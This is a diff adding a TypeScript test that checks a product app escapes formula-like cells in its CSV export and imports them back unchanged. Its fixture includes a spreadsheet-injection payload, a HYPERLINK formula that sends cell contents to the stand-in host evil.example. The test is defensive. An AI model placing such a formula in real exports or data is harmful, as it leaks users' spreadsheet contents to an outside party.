@@ -598,6 +598,56 @@ for (const kind of databaseKinds()) {
         assert.deepEqual(comparable(copy), comparable({ ...made, images: [{ ...made.images[0], alt: null }] }));
       });
 
+      test('a cell a spreadsheet would run as a formula is exported behind an apostrophe, and imported back unchanged', async () => {
+        const me = await owner();
+        const formulas = {
+          title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+          description: '\t=1+1 after a tab',
+          brand: '@SUM(1+1)',
+          currency: 'USD',
+          tags: ['-2+3', 'plain'],
+          attributes: { cr: '\r=1+1', quoted: "'=already behind one", twice: "''+two", number: '-5', note: "'plain" },
+          options: [{ name: '+Size', values: ['=S', 'M'] }],
+          variants: [
+            { sku: '-F-1', option_values: { '+Size': '=S' }, price: '5.00', quantity: 1 },
+            { sku: 'F-2', option_values: { '+Size': 'M' }, price: '6.00', quantity: 2 },
+          ],
+        };
+        const made = await me.post(formulas);
+        const exported = (await me.exportCsv()).body;
+        const rows = parse(exported) as string[][];
+        const [header, first, second] = rows;
+        const cell = (row: string[] | undefined, column: string) => row![header!.indexOf(column)];
+        assert.equal(cell(first, 'title'), `'${formulas.title}`);
+        assert.equal(cell(first, 'description'), "'\t=1+1 after a tab");
+        assert.equal(cell(first, 'brand'), "'@SUM(1+1)");
+        assert.equal(cell(first, 'tags'), "'-2+3, plain");
+        assert.equal(cell(first, 'attribute.cr'), "'\r=1+1");
+        assert.equal(cell(first, 'attribute.quoted'), "''=already behind one");
+        assert.equal(cell(first, 'attribute.twice'), "'''+two");
+        assert.equal(cell(first, 'attribute.number'), '-5', 'a number is left a number');
+        assert.equal(cell(first, 'attribute.note'), "'plain", 'an apostrophe before no formula is left as it is');
+        assert.deepEqual([cell(first, 'option1_name'), cell(first, 'option1_value'), cell(first, 'sku')], ["'+Size", "'=S", "'-F-1"]);
+        assert.deepEqual([cell(second, 'sku'), cell(second, 'price')], ['F-2', '6.00']);
+        const live = rows.flat().filter((text) => /^[=+\-@\t\r]/.test(text) && text !== '-5');
+        assert.deepEqual(live, [], 'no cell of the export starts a formula');
+
+        const before = await snapshot(me.workspace.id);
+        assert.deepEqual(madeAndChanged((await me.importCsv(exported)).json()), { created: 0, updated: 0 });
+        assert.deepEqual(await snapshot(me.workspace.id), before);
+        const other = await owner();
+        assert.deepEqual(madeAndChanged((await other.importCsv(exported)).json()), { created: 1, updated: 0 });
+        const [copy] = (await other.get('/products')).json().data;
+        const comparable = (p: Record<string, unknown> & { variants: Record<string, unknown>[] }) => ({
+          ...p,
+          id: 0,
+          created_at: '',
+          updated_at: '',
+          variants: p.variants.map((v) => ({ ...v, id: 0 })),
+        });
+        assert.deepEqual(comparable(copy), comparable(made));
+      });
+
       test('10,000 rows import in one request; the export again changes nothing; every price changed updates every product', async (context) => {
         const me = await owner();
         const header = [...COLUMNS, 'attribute.material'];
